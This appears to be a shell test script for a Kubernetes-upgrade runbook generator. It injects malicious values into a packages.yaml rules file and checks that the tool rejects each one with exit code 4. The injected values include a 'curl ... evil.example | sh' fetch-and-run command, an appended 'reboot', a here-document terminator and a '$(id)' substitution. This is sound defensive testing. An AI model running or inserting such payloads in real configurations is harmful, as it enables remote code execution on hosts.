# Rules strings that reach a runbook's shell commands are held to strict
# patterns: a quote in deb_line, a here-document terminator in a yum repo
# file, a second command in key_install are rules errors (exit 4) with
# their location, from check-rules as from plan, and no runbook is made.
inject() { # FILE-IN-RULES SED-EXPR
	rm -rf "$T/r"
	cp -R rules "$T/r"
	sed "$2" "rules/$1" >"$T/r/$1"
	cmp -s "rules/$1" "$T/r/$1" && die "sed '$2' changed nothing"
	return 0
}
inject data/packages.yaml "s|kubernetes-xenial main\"|kubernetes-xenial main'; curl -s https://evil.example/x \\| sh; echo '\"|"
run 4 check-rules "$T/r"
has "$T/err" "packages.yaml:26:17: error: deb_line is not a plain 'deb \[signed-by=/PATH\] https://URL SUITE \[COMPONENT...\]' line \(it goes into the runbook's shell commands\)"
run 4 plan --rules "$T/r" --to 1.25 --as-of 2024-11-01 -o "$T/runbook.md" fixtures/ha-1.24.17
[ ! -e "$T/runbook.md" ] || die "a runbook was written"
inject data/packages.yaml 's|^        enabled=1$|        EOF\n        enabled=1|'
run 4 check-rules "$T/r"
has "$T/err" "error: repo_content line 4 is not a '\[section\]' or 'key=value' line"
inject data/packages.yaml 's|--dearmor -o /etc/apt/keyrings/kubernetes-apt-keyring.gpg"|--dearmor -o /etc/apt/keyrings/k.gpg; reboot"|'
run 4 check-rules "$T/r"
has "$T/err" "error: key_install is not 'curl -fsSL https://URL \| gpg --dearmor -o /PATH'"
inject data/packages.yaml 's|sources_file: /etc/apt/sources.list.d/kubernetes.list|sources_file: "/etc/apt/sources.list.d/$(id).list"|'
run 4 check-rules "$T/r"
has "$T/err" "error: sources_file is not an absolute path of plain names"
